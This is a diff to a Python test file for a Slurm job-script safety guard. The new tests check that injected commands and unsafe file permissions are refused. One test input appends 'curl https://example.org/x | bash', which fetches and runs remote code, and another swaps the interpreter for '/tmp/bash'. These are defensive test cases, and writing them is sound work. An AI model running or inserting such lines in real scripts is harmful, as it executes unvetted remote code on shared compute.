@@ -1,6 +1,7 @@
 """The guard refuses what would be paid for in GPU hours: each rule, with its remedy."""
 
 import json
+import os
 import re
 from collections.abc import Callable
 from dataclasses import replace
@@ -17,7 +18,7 @@ from trilane.config.parallelism import Topology
 from trilane.config.plan import Plan
 from trilane.config.training import Data, Optimizer, Run
 from trilane.costmodel.predict import predict
-from trilane.slurm import checks, client, preflight
+from trilane.slurm import checks, client, copies, ledger, preflight
 from trilane.slurm.checks import REFUSAL, WARNING
 from trilane.slurm.script import SCRIPT, render
 from trilane.slurm.sites import JobRequest, site
@@ -244,6 +245,46 @@ def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None
     edit, says = EDITED[rule]
     found = next(f for f in findings(folder, plan(), script=edit) if f.rule == rule)
     assert found.level == REFUSAL and says in found.message
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "level"),
+    [
+        ("set -euo pipefail", "set -euo pipefail\ncurl https://example.org/x | bash", REFUSAL),
+        ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
+        ("      --rdzv-backend=c10d", "      --log-dir=x --rdzv-backend=c10d", REFUSAL),
+        ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH --nice=10", WARNING),
+        ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
+    ],
+)
+def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
+    old: str, new: str, level: str, folder: Path
+) -> None:
+    """One that was submitted before is accepted; directives and comments are shown alone."""
+    edit = {"script": lambda s: s.replace(old, new, 1)}
+    (found,) = [f for f in findings(folder, plan(), **edit) if f.rule == "changes"]
+    assert found.level == level and any(f"\n+{line}" in found.message for line in new.split("\n"))
+    assert not [
+        f for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit)) if f.rule == "changes"
+    ]
+    ledger.note(folder, "submitted", "7", plan="x", script=copies.hash_of((folder / SCRIPT).read_text()))
+    assert {f.level for f in findings(folder, plan(), **edit) if f.rule == "changes"} == {WARNING}
+    assert not [f for f in findings(folder, plan(), script=lambda s: s) if f.rule == "changes"]
+
+
+@pytest.mark.parametrize("name", [SCRIPT, "plan.json", ""])
+def test_what_somebody_else_owns_or_may_write_is_refused(name: str, folder: Path) -> None:
+    for file in (SCRIPT, "plan.json"):
+        (folder / file).write_text(render("train", plan(), A100, JobRequest(account="xyz@a100")))
+    owned = lambda: [f.message for f in findings(folder, plan()) if (f.rule, f.level) == ("owner", REFUSAL)]  # noqa: E731
+    assert not owned()
+    (folder / name).chmod(0o757)
+    assert "is writable by others" in owned()[0] and len(owned()) == 1
+    (folder / name).chmod(0o755)
+    if os.geteuid() == 0:
+        os.chown(folder / name, 12345, -1)
+        assert "belongs to user 12345" in owned()[0]
+        os.chown(folder / name, 0, -1)
 
 
 def test_what_is_only_likely_to_go_wrong_is_a_warning(folder: Path) -> None:
